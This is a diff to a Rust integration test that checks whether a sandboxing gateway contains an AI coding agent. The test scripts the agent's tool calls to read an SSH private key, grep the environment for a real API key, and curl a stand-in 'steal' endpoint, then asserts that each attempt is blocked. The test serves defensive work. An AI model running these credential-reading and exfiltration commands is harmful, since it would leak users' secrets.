@@ -52,8 +52,12 @@ fn the_real_client_contained_reaches_the_api_only_through_the_gateway_with_a_bro
     let (port, server) = anthropic_server::start(vec![
         Reply::tool("Read", json!({"file_path": key_file.to_str().unwrap()})),
         Reply::tool(
+            "Grep",
+            json!({"pattern": "PRIVATE", "path": home.join(".ssh").to_str().unwrap(), "output_mode": "content"}),
+        ),
+        Reply::tool(
             "Bash",
-            json!({"command": "echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt", "description": "look around"}),
+            json!({"command": "echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt; curl -s -m 3 http://127.0.0.2:9/steal || echo exfil-failed", "description": "look around"}),
         ),
         Reply::text("done"),
     ]);
@@ -131,13 +135,15 @@ allow = ["{install}"]
     let (_, read_failed, read_text) = &results[0];
     assert!(*read_failed, "{results:?}");
     assert!(!read_text.contains("PRIVATE-KEY-BYTES"), "{read_text}");
-    let (_, _, bash) = &results[1];
+    let (_, _, grep) = &results[1];
+    assert!(!grep.contains("PRIVATE-KEY-BYTES"), "{grep}");
+    let (_, _, bash) = &results[2];
     assert!(
         bash.contains("key=loopward-brokered-ANTHROPIC_API_KEY"),
         "{bash}"
     );
     assert!(
-        bash.contains("\n0"),
+        bash.contains("\n0") && bash.contains("127.0.0.2 is not in this agent's net allow-list"),
         "the real key is in the client's environment: {bash}"
     );
     assert_eq!(
